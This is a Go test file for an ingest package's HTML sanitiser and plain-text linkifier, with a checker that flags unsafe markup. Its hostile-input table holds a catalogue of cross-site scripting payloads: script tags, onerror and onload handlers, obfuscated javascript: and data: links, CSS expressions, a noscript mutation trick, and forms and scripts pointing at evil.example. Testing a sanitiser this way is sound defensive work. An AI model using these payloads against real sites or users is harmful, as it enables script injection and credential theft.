package ingest

import (
	"math/rand/v2"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
)

// unsafeMarkup reports the first thing in sanitised HTML that could run
// code, navigate, submit or load a resource, or "" when there is none.
func unsafeMarkup(s string) string {
	if strings.Contains(strings.ToLower(s), "<script") {
		return "<script"
	}
	z := xhtml.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case xhtml.ErrorToken:
			return ""
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math", "textarea":
				return "<" + tok.Data
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				switch {
				case strings.HasPrefix(a.Key, "on"):
					return "attribute " + a.Key
				case a.Key == "src" || a.Key == "srcset" || a.Key == "background" || a.Key == "action" || a.Key == "formaction":
					return "attribute " + a.Key
				case urlAttr[a.Key]:
					switch scheme := browserScheme(a.Val); scheme {
					case "", "http", "https", "mailto":
					default:
						return a.Key + "=" + a.Val + " (scheme " + scheme + ")"
					}
				case strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") || strings.Contains(v, "data:"):
					// Not a URL to the browser, but a value that reads like
					// one is suspect all the same (the sanitiser keeps no
					// colon in a title or an alt).
					return a.Key + "=" + a.Val
				case a.Key == "style" && (strings.Contains(v, "url(") || strings.Contains(v, "expression(") || strings.Contains(v, "@import")):
					return "style " + a.Val
				case a.Key == "target" && a.Val != "_blank":
					return "target " + a.Val
				}
			}
		}
	}
}

// urlAttr lists the attributes a browser follows or loads as a URL (the
// ones the sanitiser could ever keep, and their neighbours).
var urlAttr = map[string]bool{"href": true, "cite": true, "longdesc": true, "usemap": true, "xlink:href": true,
	"data-remote-src": true, "poster": true, "ping": true, "manifest": true, "codebase": true, "archive": true}

// browserScheme returns the scheme, lower-cased, that a browser reads in
// an attribute's URL (the WHATWG URL parser: leading and trailing C0
// controls and spaces dropped, tabs and newlines removed anywhere, then a
// letter followed by letters, digits, "+", "-" or "." up to a colon), or ""
// for a relative URL. "http:#javascript:x" is an http URL whose fragment
// reads "javascript:x": harmless, unlike "java\tscript:x".
func browserScheme(v string) string {
	v = strings.TrimFunc(v, func(r rune) bool { return r <= ' ' })
	v = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(v)
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
		case i > 0 && (c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'):
		case i > 0 && c == ':':
			return strings.ToLower(v[:i])
		default:
			return ""
		}
	}
	return ""
}

func TestBrowserScheme(t *testing.T) {
	for in, want := range map[string]string{
		"http:#jAvAsCript:00": "http", "https://x/javascript:": "https", " \x01JaVa\tScRiPt:alert(1)": "javascript",
		"java\nscript:x": "javascript", "/a:b": "", "#javascript:x": "", "?javascript:x": "", "a/javascript:x": "",
		"mailto:a@b.c": "mailto", "data:text/html,x": "data", "1http:x": "", "vbscript:x": "vbscript", "": "",
	} {
		if got := browserScheme(in); got != want {
			t.Errorf("browserScheme(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestUnsafeMarkupFinds checks the oracle itself: what it must flag, and
// what it must let pass.
func TestUnsafeMarkupFinds(t *testing.T) {
	for _, bad := range []string{`<a href="java&#9;script:alert(1)">x</a>`, `<a href=" JavaScript:x">x</a>`,
		`<a href="data:text/html,x">x</a>`, `<img data-remote-src="vbscript:x">`, `<span title="javascript:x">x</span>`,
		`<p onclick="x">x</p>`, `<img src="https://x/">`, `<svg></svg>`, `<a target="_self" href="/">x</a>`} {
		if unsafeMarkup(bad) == "" {
			t.Errorf("unsafeMarkup(%q) found nothing", bad)
		}
	}
	for _, good := range []string{`<a href="http:#jAvAsCript:00">x</a>`, `<a href="https://x/?q=javascript:1">x</a>`,
		`<a href="mailto:a@b.c">x</a>`, `<a href="#data:x">x</a>`, `<p>javascript: is text here</p>`} {
		if bad := unsafeMarkup(good); bad != "" {
			t.Errorf("unsafeMarkup(%q) = %q, want nothing", good, bad)
		}
	}
}

func TestSanitizeHTMLHostile(t *testing.T) {
	tests := []struct {
		name string
		in   string
		keep string // visible text that must survive
	}{
		{name: "script tag", in: `<p>hi</p><script>alert(1)</script>`, keep: "hi"},
		{name: "script in caps", in: `<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>hi</p>`, keep: "hi"},
		{name: "event handler", in: `<p onclick="alert(1)" onmouseover=alert(2)>hi</p>`, keep: "hi"},
		{name: "img onerror", in: `<img src=x onerror=alert(1)>hi`, keep: "hi"},
		{name: "javascript link", in: `<a href="javascript:alert(1)">hi</a>`, keep: "hi"},
		{name: "javascript link with entities", in: `<a href="&#106;avascript:alert(1)">hi</a>`, keep: "hi"},
		{name: "javascript link with tab", in: "<a href=\"java\tscript:alert(1)\">hi</a>", keep: "hi"},
		{name: "vbscript link", in: `<a href="vbscript:msgbox(1)">hi</a>`, keep: "hi"},
		{name: "data link", in: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hi</a>`, keep: "hi"},
		{name: "svg onload", in: `<svg onload=alert(1)><circle r=5 /></svg><p>hi</p>`, keep: "hi"},
		{name: "svg script", in: `<svg><script>alert(1)</script></svg><p>hi</p>`, keep: "hi"},
		{name: "meta refresh", in: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>hi</p>`, keep: "hi"},
		{name: "base href", in: `<base href="https://evil.example/"><a href="/x">hi</a>`, keep: "hi"},
		{name: "form", in: `<form action="https://evil.example"><input name=pw><button formaction="javascript:alert(1)">go</button></form><p>hi</p>`, keep: "hi"},
		{name: "iframe", in: `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>`, keep: "hi"},
		{name: "object and embed", in: `<object data="x.swf"></object><embed src="x.swf"><p>hi</p>`, keep: "hi"},
		{name: "css expression", in: `<div style="width: expression(alert(1))">hi</div>`, keep: "hi"},
		{name: "css url", in: `<div style="background-image: url(javascript:alert(1)); color: red">hi</div>`, keep: "hi"},
		{name: "css import in style tag", in: `<style>@import url(https://evil.example/x.css); body{background:url(https://t.example/p)}</style><p>hi</p>`, keep: "hi"},
		{name: "link stylesheet", in: `<link rel="stylesheet" href="https://evil.example/x.css"><p>hi</p>`, keep: "hi"},
		{name: "target top", in: `<a href="https://ok.example" target="_top">hi</a>`, keep: "hi"},
		{name: "background attribute", in: `<table background="https://t.example/p.gif"><tr><td>hi</td></tr></table>`, keep: "hi"},
		{name: "srcset", in: `<img srcset="https://t.example/p.gif 1x">hi`, keep: "hi"},
		{name: "data image", in: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hi`, keep: "hi"},
		{name: "broken markup", in: `<p <script>alert(1)</script>hi`, keep: "hi"},
		{name: "comment trick", in: `<!--><script>alert(1)</script>--><p>hi</p>`, keep: "hi"},
		{name: "noscript mutation", in: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">hi</p></noscript><p>hi</p>`, keep: "hi"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeHTML(tt.in)
			if bad := unsafeMarkup(got); bad != "" {
				t.Errorf("got %q, which keeps %s", got, bad)
			}
			if !strings.Contains(got, tt.keep) {
				t.Errorf("got %q, want it to keep %q", got, tt.keep)
			}
		})
	}
}

func TestSanitizeHTMLKeeps(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{name: "formatting", in: `<p><b>bold</b> <i>it</i> <u>u</u></p>`, want: `<p><b>bold</b> <i>it</i> <u>u</u></p>`},
		{name: "table", in: `<table border="1"><tr><td colspan="2">x</td></tr></table>`, want: `<table border="1"><tr><td colspan="2">x</td></tr></table>`},
		{name: "link", in: `<a href="https://example.com/a?b=1">x</a>`, want: `<a href="https://example.com/a?b=1" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		{name: "mailto", in: `<a href="mailto:bob@example.com">bob</a>`, want: `<a href="mailto:bob@example.com" rel="nofollow noreferrer">bob</a>`},
		{name: "safe style", in: `<span style="color: red; font-weight: bold">x</span>`, want: `<span style="color: red; font-weight: bold">x</span>`},
		{name: "cid image", in: `<img src="cid:abc%40x" alt="a">`, want: `<img data-cid="abc@x" alt="a">`},
		{name: "remote image blocked", in: `<img src="https://t.example/p.gif?id=1&amp;u=2">`, want: `<img data-remote-src="https://t.example/p.gif?id=1&amp;u=2">`},
		{name: "forged data-cid dropped", in: `<img data-cid="x" data-remote-src="javascript:alert(1)" src="https://ok.example/i.png">`, want: `<img data-remote-src="https://ok.example/i.png">`},
		{name: "ids dropped", in: `<div id="login-form">x</div>`, want: `<div>x</div>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SanitizeHTML(tt.in); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestTextToHTML(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{name: "escapes", in: `<script>alert("x")</script> & co`, want: `<p>&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; co</p>`},
		{name: "line breaks", in: "a\r\nb\n\nc\n", want: "<p>a<br>\nb<br>\n<br>\nc</p>"},
		{name: "empty", in: "\n\n", want: ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := TextToHTML(tt.in)
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			if again := SanitizeHTML(got); again != got {
				t.Errorf("sanitising TextToHTML output changed it: got %q, want %q", again, got)
			}
		})
	}
}

// TestTextToHTMLLinks checks the links of plain text as they are stored for
// staff follow-ups, which do not pass through the sanitiser.
func TestTextToHTMLLinks(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"see https://a.example/x?y=1&z=2.", `<p>see <a href="https://a.example/x?y=1&amp;z=2" rel="nofollow noreferrer noopener" target="_blank">https://a.example/x?y=1&amp;z=2</a>.</p>`},
		{"www.b.example, ok", `<p><a href="http://www.b.example" rel="nofollow noreferrer noopener" target="_blank">www.b.example</a>, ok</p>`},
		{"mail mailto:it@c.example", `<p>mail <a href="mailto:it@c.example" rel="nofollow noreferrer">mailto:it@c.example</a></p>`},
		{"javascript:alert(1) data:text/html,<b>x</b> JaVaScRiPt:x", `<p>javascript:alert(1) data:text/html,&lt;b&gt;x&lt;/b&gt; JaVaScRiPt:x</p>`},
		{`https://d.example/"><script>`, `<p><a href="https://d.example/" rel="nofollow noreferrer noopener" target="_blank">https://d.example/</a>&#34;&gt;&lt;script&gt;</p>`},
		{"https:// and www. alone", `<p>https:// and www. alone</p>`},
		{"a http://a%zz b then https://f.example", `<p>a http://a%zz b then <a href="https://f.example" rel="nofollow noreferrer noopener" target="_blank">https://f.example</a></p>`},
		{"MailTo:! and mailto:", `<p>MailTo:! and mailto:</p>`},
		{"Visit WWW.E.example or MailTo:it@e.example", `<p>Visit <a href="http://WWW.E.example" rel="nofollow noreferrer noopener" target="_blank">WWW.E.example</a> or <a href="mailto:it@e.example" rel="nofollow noreferrer">MailTo:it@e.example</a></p>`},
	} {
		if got := TextToHTML(tc.in); got != tc.want {
			t.Errorf("TextToHTML(%q)\n got %s\nwant %s", tc.in, got, tc.want)
		}
	}
}

// TestMayHoldLinkNeverMissesALink: the cheap test linkify runs first says
// yes to every line the link pattern matches in (it may say yes to more).
func TestMayHoldLinkNeverMissesALink(t *testing.T) {
	parts := []string{"http://", "HTTPS://x", "www.", "WwW.a", "mailto:", "MAILTO:b", "ww.", "mail to:", "w", "m", ":/", "/", " ", "é", "x", ".", "<"}
	rng := rand.New(rand.NewPCG(1, 2))
	for range 20000 {
		line := joinSome(rng, parts, 6)
		if textLink.MatchString(line) && !mayHoldLink(line) {
			t.Fatalf("mayHoldLink(%q) = false, yet the link pattern matches", line)
		}
	}
	if mayHoldLink("Dear support, the printer on floor 2 is down again.") {
		t.Fatal("mayHoldLink says yes to a line with no link")
	}
}

// TestContainsFold: ASCII letters match in any case, other bytes only
// themselves, anywhere in the text (at both ends too).
func TestContainsFold(t *testing.T) {
	for _, tc := range []struct {
		s, sub string
		want   bool
	}{
		{"<p><IMG src=x>", "<img", true},
		{"<p><iMg src=x>", "<img", true},
		{"<img", "<img", true},
		{"text then <Img", "<img", true},
		{"<im", "<img", false},
		{"<p>image</p>", "<img", false},
		{"[img", "<img", false},
		{"<\u0130MG", "<img", false}, // a dotted capital I is not an ASCII i
		{"", "<img", false},
		{"anything", "", true},
		{"Content-ID", "content-id", true},
		{"CONTENT_ID", "content-id", false},
	} {
		if got := containsFold(tc.s, tc.sub); got != tc.want {
			t.Errorf("containsFold(%q, %q) = %v, want %v", tc.s, tc.sub, got, tc.want)
		}
	}
}

// FuzzTextToHTMLInOnePass: for a text with no link, TextToHTML's one pass
// (textHTML, textEnd) writes what the line-by-line path writes
// (textLinesHTML, after CRLF are made LF and the end trimmed), which
// FuzzTextContentIsAlreadySanitized and the tests above hold to.
func FuzzTextToHTMLInOnePass(f *testing.F) {
	for _, s := range []string{"hello", "a\r\nb\n\nc\n", "a\r\r\n", "a\rb", "\r\n\r\n \t", "x\r", "\r", "\n\r", "a & b < c > d \"q\" 'x'",
		"line1\r\nline2\n\n\nline3\r", "bad \xff utf8\r\n", "tab\there\t\r\n ", "ends with cr\r\r", "www. only", "mail to: x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if mayHoldLink(text) {
			t.Skip("a text with a link goes line by line")
		}
		want := strings.TrimRight(strings.ReplaceAll(strings.ToValidUTF8(text, "\uFFFD"), "\r\n", "\n"), "\n \t")
		if want != "" {
			var b strings.Builder
			b.WriteString("<p>")
			textLinesHTML(&b, want)
			b.WriteString("</p>")
			want = b.String()
		}
		if got := TextToHTML(text); got != want {
			t.Fatalf("TextToHTML(%q)\n got %q\nwant %q (line by line)", text, got, want)
		}
	})
}

// TestMayHoldLinkLooksEverywhere: mayHoldLink, which looks only at the
// dots and colons, finds "www." and "mailto:" in any case wherever they
// are, as a test of every position does.
func TestMayHoldLinkLooksEverywhere(t *testing.T) {
	everyPosition := func(s string) bool {
		for i := range len(s) {
			if strings.HasPrefix(s[i:], "://") || i+4 <= len(s) && strings.EqualFold(s[i:i+4], "www.") ||
				i+7 <= len(s) && strings.EqualFold(s[i:i+7], "mailto:") {
				return true
			}
		}
		return false
	}
	parts := []string{"www", "WwW", "ww", ".", ":", "mailto", "MailTo", "ailto", "m", "w", ":/", "/", "x", "é", "\u212a", " "}
	rng := rand.New(rand.NewPCG(3, 4))
	for range 50000 {
		s := joinSome(rng, parts, 7)
		if got, want := mayHoldLink(s), everyPosition(s); got != want {
			t.Fatalf("mayHoldLink(%q) = %v, want %v", s, got, want)
		}
	}
}

// TestContainsFoldAgreesWithEveryPosition: containsFold, which jumps to a
// byte of sub that is not a letter when it has one, finds sub exactly
// where a test of every position does.
func TestContainsFoldAgreesWithEveryPosition(t *testing.T) {
	everyPosition := func(s, sub string) bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if asciiEqualFold(s[i:i+len(sub)], sub) {
				return true
			}
		}
		return false
	}
	parts := []string{"<", "i", "I", "m", "M", "g", "G", "c", "C", "d", ":", "-", "é", "\u0130", "x", " ", "<im", "ci", "D:"}
	subs := []string{"<img", "cid:", "content-id", "img", "i", ":", "<", "x<y"}
	rng := rand.New(rand.NewPCG(5, 6))
	for range 100000 {
		s, sub := joinSome(rng, parts, 9), subs[rng.IntN(len(subs))]
		if got, want := containsFold(s, sub), everyPosition(s, sub); got != want {
			t.Fatalf("containsFold(%q, %q) = %v, want %v", s, sub, got, want)
		}
	}
}

// joinSome joins fewer than n of parts, drawn at random: the strings the
// tests above try their finders on.
func joinSome(rng *rand.Rand, parts []string, n int) string {
	var b strings.Builder
	for range rng.IntN(n) {
		b.WriteString(parts[rng.IntN(len(parts))])
	}
	return b.String()
}
